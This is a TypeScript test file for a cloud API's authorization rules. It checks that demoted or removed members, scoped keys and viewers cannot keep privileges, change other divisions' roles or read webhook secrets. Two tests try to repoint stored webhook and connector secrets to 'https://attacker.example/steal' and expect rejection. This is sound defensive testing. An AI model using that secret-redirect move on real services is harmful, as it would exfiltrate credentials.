import { given, TestCloud, type ApiClient, type Person } from '@libs/testing';

const tomorrow = (): string => new Date(Date.now() + 86_400_000).toISOString();

/** Attacks of members and keys with too few permissions, and of other divisions. */
describe('An insider', () => {
  let cloud: TestCloud;
  let roles: Record<string, number>;
  let made = 0;

  beforeAll(async () => {
    cloud = await TestCloud.borrow({ env: { LANDLORD_ROLE: 'api' } });
    const { body } = await cloud.main().get(`${cloud.tenant}/roles?kind=system`);
    roles = Object.fromEntries(body.items.map(({ name, id }: { name: string; id: number }) => [name, id]));
  });
  afterAll(() => cloud.stop());

  const name = (): string => `made-${(made += 1)}`;
  const admin = (): Promise<Person> =>
    given.person(cloud, { email: `${name()}@people.example`, member: { roles: ['admin'] } });
  const keyOf = async (who: ApiClient, more: object = { role_id: roles['admin'] }) => {
    const answer = await who.post(`${cloud.tenant}/api_keys`, { name: name(), expiry_at: tomorrow(), ...more });
    expect(answer.status).toBe(201);
    return answer.body as { id: number; secret: string; role_id: number };
  };
  const division = (secret: string) => cloud.main(secret).post(`${cloud.tenant}/divisions`, { name: name() });

  it('4: loses the permissions of a key after a demotion, and cannot restore them', async () => {
    const carol = await admin();
    const { secret } = await keyOf(carol);
    expect((await division(secret)).status).toBe(201);

    await cloud.main().put(`${cloud.tenant}/members/${carol.id}`, { roles: [roles['viewer']] });

    expect(await division(secret)).toBeProblem('insufficient_permissions', { status: 403 });
    const assign = `${cloud.tenant}/roles/${roles['admin']}/members/assign`;
    expect((await cloud.main(secret).put(assign, { members: [carol.id] })).status).toBe(403);
    expect((await carol.put(assign, { members: [carol.id] })).status).toBe(403);
  });

  it('11: keeps no rotated key and no invitation after the end of the membership', async () => {
    const carol = await admin();
    const owners = await keyOf(cloud.main());
    const rotated = await carol.post(`${cloud.tenant}/api_keys/${owners.id}/rotate`, {});
    const email = `${name()}@private.example`;
    const invited = await carol.post(`${cloud.tenant}/invitations`, { email, roles: [roles['admin']] });
    expect([rotated.status, invited.status]).toEqual([200, 201]);

    await cloud.main().delete(`${cloud.tenant}/members/${carol.id}`);

    expect((await cloud.main(rotated.body.secret).get(cloud.tenant)).status).toBe(401);
    const back = await given.person(cloud, { email });
    const accepted = await back.put(`/account/invitations/${invited.body.id}/accept`);
    expect(accepted.status).toBeGreaterThanOrEqual(400);
    expect((await back.get(cloud.tenant)).status).toBe(404);
  });

  it('12: cannot change a role of another division with a key of one division', async () => {
    const wide = await keyOf(cloud.main(), { permissions: { tenant: ['info:read'] } });
    const { body: other } = await cloud.main().post(`${cloud.tenant}/divisions`, { name: name() });
    const scoped = cloud.main(await given.key(cloud, { divisionId: other.id }));
    const role = `${cloud.tenant}/roles/${wide.role_id}`;

    const answers = [
      await scoped.put(role, { permissions: { tenant: [] } }),
      await scoped.delete(role),
      await scoped.put(cloud.tenant, { name: 'taken over' }),
      await scoped.delete(`${cloud.tenant}/billing/payments/method`),
    ];

    expect(answers.filter(({ status }) => status < 400)).toEqual([]);
    expect((await cloud.main(wide.secret).get(cloud.tenant)).status).toBe(200);
  });

  const HOOK = {
    channel: 'webhook',
    destination: 'https://hooks.example.com/s3cret-path',
    settings: { webhook: { headers: { authorization: 'Bearer s3cret' } } },
  };

  it('13: cannot send a stored secret to another destination', async () => {
    const { body: channel } = await cloud.main().post(`${cloud.tenant}/channels`, { ...HOOK, name: name() });
    const permissions = { tenant: ['notifications:read' as const, 'notifications:manage' as const] };
    const manager = cloud.main(await given.key(cloud, { permissions }));
    const path = `${cloud.tenant}/channels/${channel.id}`;
    const destination = 'https://attacker.example/steal';
    const { body: shown } = await manager.get(path);

    for (const body of [{ destination }, { destination, settings: shown.settings }, { ...shown, destination }])
      expect(await manager.put(path, body)).toBeProblem('secret_required', { status: 400 });

    expect((await manager.get(path)).body.destination).toBe(HOOK.destination);
    expect(JSON.stringify(shown)).not.toContain('Bearer');
  });

  it('13: cannot send the secret of a connector to another destination', async () => {
    const deployments = `${cloud.environment}/deployments`;
    const shape = { cloud: 'aws', region: 'us-east-1', tier: 'small', managed_tier: 'standard', cluster: 'cluster' };
    const made = await cloud.main().post(`${deployments}/managed`, { name: name(), ...shape });
    const id = Number(made.headers.get('ld-deployment'));
    const end = () =>
      cloud.rows(`update operations set status = 'succeeded', finished_at = now() where deployment_id = $1`, [id]);
    await end();
    await cloud.rows(`update deployment_runtimes set status = 'initialized' where deployment_id = $1`, [id]);
    const wanted = { connector_type: 'sink', connector_key: 'http', instance_key: 'hook' };
    expect((await cloud.main().post(`${deployments}/${id}/connectors/activate`, wanted)).status).toBeLessThan(300);
    await end();
    const save = (who: ApiClient, url: string, authorization: string) =>
      who.post(`/deployments/${id}/configs/connector:sink:http`, {
        name: 'hook',
        values: { plugin_config: { url, headers: { authorization } } },
      });
    expect((await save(cloud.runtime(), 'https://service.example/in', 'Bearer s3cret')).status).toBe(201);
    const manager = cloud.runtime(
      await given.key(cloud, { permissions: { environment: ['deployment:config:manage'] } }),
    );

    const stolen = await save(manager, 'https://attacker.example/steal', '********');

    expect(stolen).toBeProblem('secret_required', { status: 400 });
  });

  it('20: cannot read secrets of webhooks as a viewer', async () => {
    const hooks = [
      { ...HOOK, name: name() },
      { channel: 'slack', name: name(), destination: 'https://hooks.slack.com/services/T/B/s3cret' },
    ];
    const viewer = await given.person(cloud, { email: `${name()}@people.example`, member: { roles: ['viewer'] } });

    for (const hook of hooks) {
      const { body } = await cloud.main().post(`${cloud.tenant}/channels`, hook);
      const shown = await viewer.get(`${cloud.tenant}/channels/${body.id}`);
      expect([shown.status, shown.body.destination]).toEqual([200, `${new URL(hook.destination).origin}/********`]);
      expect(JSON.stringify(shown.body)).not.toContain('s3cret');
    }
  });
});
